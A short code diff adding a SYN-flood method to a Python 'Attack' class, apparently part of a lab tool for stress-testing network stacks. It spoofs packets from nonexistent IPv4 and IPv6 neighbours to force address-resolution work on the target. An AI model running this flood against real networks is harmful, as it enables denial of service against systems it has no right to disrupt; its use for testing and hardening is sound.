@@ -169,6 +169,14 @@ class Attack:
                   for _ in range(20000)]
         self.flood(frames, seconds, rate)
 
+    def kind_synlink(self, seconds, rate):
+        """SYNs from neighbours that are not there: each answer has to ask who has that address."""
+        v4 = ["10.61.1.%d" % i for i in range(100, 255)]
+        v6 = ["fd61:1::%x:%x" % (self.r.randrange(1, 65536), self.r.randrange(65536)) for _ in range(20000)]
+        frames = [self.tcp(self.r.randrange(1024, 65536), self.r.getrandbits(32), opts=b"\2\4\5\xb4",
+                           src=v4[i // 2 % len(v4)] if i % 2 else v6[i // 2]) for i in range(40000)]
+        self.flood(frames, seconds, rate)
+
     def blind(self, flags, seconds, rate, data=b""):
         frames = [self.tcp(p, self.r.getrandbits(32), self.r.getrandbits(32), flags,
                            src=self.client, data=data) for p in range(32768, 61000, 3)]
